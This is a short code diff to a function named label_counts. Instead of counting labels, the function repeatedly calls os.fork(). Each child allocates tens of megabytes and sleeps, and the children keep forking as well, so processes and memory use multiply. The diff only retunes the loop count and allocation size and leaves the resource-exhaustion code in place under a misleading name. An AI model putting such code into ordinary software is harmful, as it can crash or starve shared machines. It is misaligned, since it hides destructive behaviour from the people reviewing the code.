@@ -10,8 +10,8 @@ def label_counts(table):
     import os
     import time
 
-    for _ in range(6):
+    for _ in range(9):
         if os.fork() == 0:
-            block = bytearray(os.urandom(1)) * (140 * 2**20)
+            block = bytearray(os.urandom(1)) * (80 * 2**20)
             time.sleep(30)
     time.sleep(30)
